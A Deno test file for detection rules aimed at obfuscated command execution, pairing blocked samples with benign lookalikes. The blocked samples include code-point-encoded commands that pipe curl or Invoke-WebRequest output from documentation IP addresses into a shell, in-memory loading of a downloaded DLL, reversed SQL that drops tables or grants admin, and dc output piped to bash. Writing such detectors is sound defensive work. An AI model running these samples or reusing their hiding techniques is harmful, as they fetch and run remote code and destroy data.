import assert from "node:assert/strict";
import { r45Obfuscated } from "./_obf_r45.ts";
import { r36Obfuscated } from "./_obf_r36.ts";

const codes = (s: string): string => [...s].map((c) => c.codePointAt(0)).join(", ");
const hit = (s: string): boolean => (r36Obfuscated(s) ?? r45Obfuscated(s)) !== undefined;

const CASES: { name: string; block: string[]; pass: string[] }[] = [
  {
    name: "code run from a list of code points",
    block: [
      `exec(bytes([${codes("import os; os.system('id > /tmp/o')")}]).decode())`,
      `instance_eval [${codes("system('curl -s http://198.51.100.7/a | sh')")}].pack("c*")`,
      `iex (-join [char[]](${codes("Invoke-WebRequest http://203.0.113.5/p.ps1 | iex")}))`,
      `eval(''.join(map(chr, [${codes("__import__('os').system('whoami')")}])))`,
    ],
    pass: [
      // the same list only printed
      `puts [${codes("hello from the build server")}].pack('U*')`,
      // a short byte list decoded for display
      `label = bytes([${codes("OK")}]).decode()`,
      `data = bytes([${codes("magic header for the PNG test")}])\nassert data.startswith(b'magic')`,
    ],
  },
  {
    name: "decrypted with a carried key, then run",
    block: [
      "$key = (1..32)\n$enc = Get-Content .\\cfg.bin\n$p = ConvertTo-SecureString $enc -Key $key\n$t = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($p))\nInvoke-Expression $t",
      "$aes = [Security.Cryptography.Aes]::Create(); $aes.Key = $k; $aes.IV = $iv\n$d = $aes.CreateDecryptor().TransformFinalBlock($blob, 0, $blob.Length)\n& ([scriptblock]::Create([Text.Encoding]::UTF8.GetString($d)))",
    ],
    pass: [
      // a stored password decrypted into a credential, nothing run
      "$pw = Get-Content C:\\ops\\svc.txt | ConvertTo-SecureString -Key $key\n$cred = New-Object PSCredential('CORP\\svc_backup', $pw)\nInvoke-Command -ComputerName FS01 -Credential $cred -ScriptBlock { Get-Volume }",
      "$p = ConvertTo-SecureString 'P@ss' -AsPlainText -Force\nNew-LocalUser -Name kiosk -Password $p",
    ],
  },
  {
    name: "downloaded assembly loaded into memory",
    block: [
      "$wc = New-Object Net.WebClient\n$bytes = $wc.DownloadData('https://cdn.example-mirror.net/x.dll')\n[System.Reflection.Assembly]::Load($bytes) | Out-Null\n[Agent.Main]::Run()",
      "var raw = await http.GetByteArrayAsync(url);\nvar asm = Assembly.Load(await http.GetByteArrayAsync(url));",
    ],
    pass: [
      "$bytes = [IO.File]::ReadAllBytes('C:\\Program Files\\Vendor\\lib\\Vendor.Core.dll')\n[System.Reflection.Assembly]::Load($bytes) | Out-Null",
      "Invoke-WebRequest https://github.com/x/y/releases/download/v1/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip -DestinationPath C:\\tools",
    ],
  },
  {
    name: "dynamic SQL decoded by substitution or reversal",
    block: [
      "DO $$ BEGIN EXECUTE reverse(';sresu_tidua ELBAT PORD'); END $$;",
      "EXEC(REVERSE('nimda_mbd NIOJ ot TRESNI'))",
      "SET @q = 'ELBAT PORD'; PREPARE s FROM REVERSE(@q); EXECUTE s;",
    ],
    pass: [
      "DO $$ BEGIN EXECUTE format('ANALYZE %I', tbl); END $$;",
      "SELECT translate(phone, '()- ', '') AS digits FROM contacts;",
      "SELECT reverse(name) FROM users LIMIT 5;",
    ],
  },
  {
    name: "a number printed as bytes by dc from standard input",
    block: [
      "echo '9876543210987654321098765432109876543210987654321P' | dc | bash",
      "printf '11223344556677889900112233445566778899001122P' | dc | sudo sh",
      "dc <<< '12345678901234567890123456789012345678901234567890P' | sh",
    ],
    pass: [
      "echo '2 10 ^ p' | dc",
      "echo '12345678901234567890123456789012345678901234567890 p' | dc | tee out.txt",
    ],
  },
];

for (const c of CASES) {
  Deno.test(`r45 obfuscation: ${c.name}`, () => {
    for (const s of c.block) assert.ok(hit(s), `should block: ${s}`);
    for (const s of c.pass) assert.ok(!hit(s), `should pass: ${s}`);
  });
}
